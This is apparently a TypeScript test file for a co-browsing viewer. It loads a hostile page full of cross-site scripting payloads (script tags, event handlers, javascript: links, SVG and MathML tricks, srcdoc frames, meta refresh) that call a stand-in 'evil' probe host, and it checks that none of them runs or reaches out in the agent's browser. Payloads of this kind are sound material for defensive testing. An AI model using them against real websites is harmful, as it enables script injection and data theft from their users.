// The viewer is safe against a hostile page: whatever a customer's page holds, in the agent's browser nothing of it runs, navigates,
// submits, opens, takes the focus, or reaches another server than for pictures, media, fonts and styles.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Stage } from '../../demo/stage.ts';
import { agentClicks, press, viewerFrame } from '../../demo/people.ts';
import { servePages } from '../harness/serve.ts';
import type { PageServer } from '../harness/serve.ts';
import { openStage, seesInMirror, share } from './openStage.ts';

/** Served where only the agent's browser must never ask. Each probe has an address of its own. */
const probe = (name: string) => `{{evil}}/probe/${name}`;
const run = (name: string) =>
  `parent.alongsideHacked='${name}';top.alongsideHacked='${name}';window.alongsideHacked='${name}';fetch('${probe(`ran-${name}`)}')`;

const attacks = `
  <script>${run('script')}</script>
  <img id="img" src="x:" onerror="${run('onerror')}">
  <svg onload="${run('svg-onload')}"><script>${run('svg-script')}</script><a xlink:href="javascript:${run('svg-link')}"><text y="20">svg link</text></a>
    <use href="${probe('use')}#x"/><animate attributeName="href" values="javascript:${run('animate')}"/><set attributeName="onclick" to="${run('set')}"/>
    <foreignObject><iframe src="${probe('svg-frame')}"></iframe></foreignObject><feImage href="javascript:${run('feimage')}"/></svg>
  <a id="link" href="${probe('link')}" ping="${probe('ping')}" target="_top">link</a>
  <a id="js" href="javascript:${run('js-link')}">javascript link</a>
  <a id="blank" href="${probe('blank')}" target="_blank">new tab</a>
  <form id="form" action="${probe('form')}" method="post" target="_top"><input name="q" value="1" autofocus><button id="submit" formaction="${probe('formaction')}">Send</button></form>
  <iframe src="${probe('frame')}"></iframe><iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>
  <object data="${probe('object')}"></object><embed src="${probe('embed')}">
  <link rel="preload" as="fetch" href="${probe('preload')}"><link rel="prefetch" href="${probe('prefetch')}"><link rel="import" href="${probe('import')}"><link rel="manifest" href="${probe('manifest')}">
  <meta http-equiv="refresh" content="0;url=javascript:${run('refresh')}"><meta name="referrer" content="unsafe-url">
  <video autoplay onplay="${run('video')}"><track src="${probe('track')}" default></video>
  <button popovertarget="pop" onclick="${run('onclick')}" id="button">button</button><div id="pop" popover onbeforetoggle="${run('toggle')}">pop</div>
  <details ontoggle="${run('details')}" open><summary>s</summary></details>
  <x-evil onclick="${run('custom')}" style="background:url('javascript:${run('style')}')">custom</x-evil>
  <math><mtext><annotation-xml encoding="text/html"><script>${run('math')}</script></annotation-xml></mtext><mi xlink:href="javascript:${run('math-link')}">m</mi></math>
  <template><script>${run('template')}</script></template><noscript><img src="${probe('noscript')}"></noscript>
  <div id="late"></div><p id="end">end</p>`;

describe('nothing of a hostile page runs in the agent’s browser', () => {
  let stage: Stage;
  let evil: PageServer;
  let asked: string[];
  beforeAll(async () => {
    stage = await openStage();
    const body = () =>
      `<!doctype html><title>Hostile</title><body><button data-alongside-open>Get help</button>${attacks.replaceAll('{{evil}}', evil.origin)}<script async src="${stage.relay.origin}/alongside.js"></script>`;
    evil = await servePages((path) =>
      path === '/'
        ? { body: body() }
        : { body: 'reached', headers: { 'access-control-allow-origin': '*' } },
    );
    asked = [];
    const watched = await stage.panel.createCDPSession();
    await watched.send('Network.enable');
    watched.on('Network.requestWillBeSent', ({ request }) => {
      if (request.url.startsWith(evil.origin)) asked.push(new URL(request.url).pathname);
    });
    await stage.shop.goto(evil.origin);
    // The page's own scripts run where they belong, in the customer's browser; here only the agent's side counts.
    await share(stage.panel, stage.shop);
    await seesInMirror(stage.panel, (page) => page.querySelector('#end'));
  });
  afterAll(async () => {
    await stage?.close();
    await evil?.close();
  });

  const tabs = async () => (await stage.agent.pages()).length;

  test('[VIEW-1] not when it is shown', async () => {
    const { panel } = stage;
    const page = await viewerFrame(panel);
    expect(await panel.evaluate(() => 'alongsideHacked' in window)).toBe(false);
    expect(
      await panel.evaluate(
        () => 'alongsideHacked' in (document.querySelector('iframe')!.contentWindow as object),
      ),
    ).toBe(false);
    expect(
      await page.evaluate(
        () =>
          // In a namespace of nobody's a name means nothing: such an element keeps the place of one.
          [
            ...document.querySelectorAll(
              'script, object, embed, meta, link, base, [onclick], [onerror], [onload], [srcdoc], [ping], [action], [formaction], [target]',
            ),
          ].filter((each) => each.namespaceURI !== 'urn:alongside' || each.attributes.length !== 1)
            .length,
      ),
    ).toBe(0);
    expect(
      await page.evaluate(() =>
        [...document.querySelectorAll('*')]
          .flatMap((each) => [...each.attributes])
          .filter(
            ({ name, value }) =>
              name.startsWith('on') || (name !== 'style' && /javascript:/i.test(value)),
          )
          .map(({ name }) => name),
      ),
    ).toEqual([]);
    expect(asked).toEqual([]);
  });

  test('[VIEW-1] not when the agent clicks, with every tool', async () => {
    const { panel, agent } = stage;
    const before = await tabs();
    const address = panel.url();
    for (const tool of ['Point', 'Highlight', 'Draw']) {
      await press(panel, tool, 'radio');
      for (const target of ['#link', '#js', '#blank', '#submit', '#button']) {
        await agentClicks(panel, target);
      }
    }
    expect(await tabs()).toBe(before);
    expect(panel.url()).toBe(address);
    expect(agent.connected).toBe(true);
    expect(asked).toEqual([]);
  });

  test('[VIEW-1] not when the frame itself is clicked, pressed by keyboard or submitted', async () => {
    const { panel } = stage;
    const page = await viewerFrame(panel);
    const before = await tabs();
    await page.evaluate(() => {
      for (const id of ['link', 'js', 'blank', 'submit', 'button'])
        document.getElementById(id)?.click();
      document.querySelector<HTMLFormElement>('#form')?.requestSubmit();
    });
    expect(await tabs()).toBe(before);
    expect(asked).toEqual([]);
    expect(await page.evaluate(() => document.querySelector('#end')?.textContent)).toBe('end');
  });

  test('[VIEW-1] not when it is added while shared', async () => {
    const { panel, shop } = stage;
    await shop.evaluate((origin) => {
      const late = document.querySelector('#late')!;
      late.innerHTML = `<img src="x:" onerror="top.alongsideHacked='late'"><iframe src="${origin}/probe/late"></iframe>`;
      late.setAttribute('onclick', 'top.alongsideHacked=1');
      document.querySelector('#link')!.setAttribute('href', 'javascript:top.alongsideHacked=2');
      const script = document.createElement('script');
      script.textContent = '0';
      late.append(script, Object.assign(document.createElement('p'), { id: 'added' }));
    }, evil.origin);
    await seesInMirror(panel, (page) => page.querySelector('#added'));
    expect(await panel.evaluate(() => 'alongsideHacked' in window)).toBe(false);
    expect(asked).toEqual([]);
    expect(
      await (
        await viewerFrame(panel)
      ).evaluate(() => document.querySelector('#late')!.hasAttribute('onclick')),
    ).toBe(false);
  });

  test('[VIEW-1] it does not take the focus from the agent', async () => {
    expect(await stage.panel.evaluate(() => document.activeElement?.tagName === 'IFRAME')).toBe(
      false,
    );
  });
});
